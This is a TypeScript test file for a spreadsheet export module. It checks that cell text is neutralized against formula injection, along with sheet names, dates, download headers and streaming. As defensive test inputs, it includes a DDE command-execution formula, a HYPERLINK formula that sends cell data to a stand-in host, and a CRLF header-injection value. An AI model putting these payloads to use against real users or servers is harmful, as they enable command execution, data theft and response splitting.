import { PassThrough } from 'node:stream'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { contentDisposition, excelDate, ExportAborted, neutralize, restoreNeutralized, sheetName, writeXlsx, type ExportRow, type ExportSheet } from './exports.xlsx.ts'

async function* pagesOf(...pages: ExportRow[][]) {
  for (const page of pages) yield page
}

async function render(sheet: ExportSheet) {
  const out = new PassThrough()
  const chunks: Buffer[] = []
  out.on('data', (c: Buffer) => chunks.push(c))
  const done = new Promise((resolve) => out.on('end', resolve))
  const rows = await writeXlsx(out, sheet)
  await done
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(Buffer.concat(chunks) as unknown as ArrayBuffer)
  return { rows, ws: workbook.worksheets[0] }
}

describe('neutralize', () => {
  it('prefixes text a spreadsheet could evaluate, and nothing else', () => {
    for (const bad of ['=HYPERLINK("http://x/?"&A1,"x")', "=cmd|' /C calc'!A0", '+1+cmd', '-2+3', '@SUM(1)', '\tx', '\rx', '\0x', '  =1+1']) {
      expect(neutralize(bad)).toBe(`'${bad}`)
    }
    for (const fine of ['Nguyễn Văn An', 'Bí thư chi bộ', '0901 234 567', 'a=b', "'quoted", '']) expect(neutralize(fine)).toBe(fine)
  })

  it('is undone for readers of our own files, and only there', () => {
    for (const value of ['+84 912 345 678', '=SUM(1)', '-', '@x', '\tx', "'quoted", 'Nguyễn Văn An', "''=x"]) expect(restoreNeutralized(neutralize(value))).toBe(value)
    expect(restoreNeutralized("'quoted")).toBe("'quoted")
  })
})

describe('names and dates', () => {
  it('makes dates at UTC midnight, sheet names Excel accepts and a safe Content-Disposition', () => {
    expect(excelDate('1975-04-30')?.toISOString()).toBe('1975-04-30T00:00:00.000Z')
    expect(excelDate('không phải ngày')).toBeNull()
    expect(sheetName('Danh sách: [đảng viên] / chi bộ? * rất dài dài dài')).toBe('Danh sách đảng viên chi bộ rất')
    expect(sheetName('Danh sách: [đảng viên]')).toBe('Danh sách đảng viên')
    const header = contentDisposition('Người - Chi bộ "Giáo viên" An Hòa\r\nSet-Cookie: x - 2025-06-01')
    expect(header).toBe(
      `attachment; filename="nguoi-chi-bo-giao-vien-an-hoa-set-cookie-x-2025-06-01.xlsx"; filename*=UTF-8''${encodeURIComponent('Người - Chi bộ Giáo viên An Hòa Set-Cookie x - 2025-06-01.xlsx')}`,
    )
    expect(header).not.toMatch(/[\r\n]/)
    expect(contentDisposition("Đoàn (O'Neil)")).toContain("filename*=UTF-8''%C4%90o%C3%A0n%20%28O%27Neil%29.xlsx")
  })
})

describe('writeXlsx', () => {
  it('writes a bold, frozen, filtered header, widths, real dates and numbers, neutralized text, page after page', async () => {
    const { rows, ws } = await render({
      name: 'Thử nghiệm',
      columns: [
        { header: 'Họ và tên', key: 'name', width: 30, type: 'text' },
        { header: 'Ngày sinh', key: 'born', width: 12, type: 'date' },
        { header: 'Tỷ lệ', key: 'rate', width: 10, type: 'number', numFmt: '0.0%' },
      ],
      pages: pagesOf(
        [{ name: '=HYPERLINK("http://x","y")', born: '1990-01-02', rate: 0.5 }],
        [{ name: 'Nguyễn Văn An'.normalize('NFD'), born: null, rate: null }],
      ),
    })
    expect(rows).toBe(2)
    expect(ws.name).toBe('Thử nghiệm')
    expect(ws.getRow(1).values).toEqual([undefined, 'Họ và tên', 'Ngày sinh', 'Tỷ lệ'])
    expect(ws.getCell('A1').font?.bold).toBe(true)
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect(ws.autoFilter).toBe('A1:C1')
    expect(ws.getColumn(1).width).toBe(30)
    expect(ws.getColumn(2).width).toBe(12)
    expect(ws.getCell('A2').value).toBe('\'=HYPERLINK("http://x","y")')
    expect(ws.getCell('A2').type).toBe(ExcelJS.ValueType.String)
    expect(ws.getCell('B2').value).toEqual(new Date(Date.UTC(1990, 0, 2)))
    expect(ws.getCell('B2').numFmt).toBe('dd/mm/yyyy')
    expect(ws.getCell('C2').value).toBe(0.5)
    expect(ws.getCell('C2').numFmt).toBe('0.0%')
    expect(ws.getCell('A3').value).toBe('Nguyễn Văn An'.normalize('NFC'))
    expect(ws.getCell('B3').value).toBeNull()
  })

  it('stops reading when the reader goes away', async () => {
    const out = new PassThrough()
    out.resume()
    let pulled = 0
    async function* endless() {
      for (;;) {
        pulled++
        if (pulled === 2) out.destroy()
        yield [{ name: `Người thứ ${pulled}` }]
      }
    }
    await expect(writeXlsx(out, { name: 'Thử', columns: [{ header: 'Họ và tên', key: 'name', width: 20, type: 'text' }], pages: endless() })).rejects.toBeInstanceOf(ExportAborted)
    expect(pulled).toBe(2)
  })
})
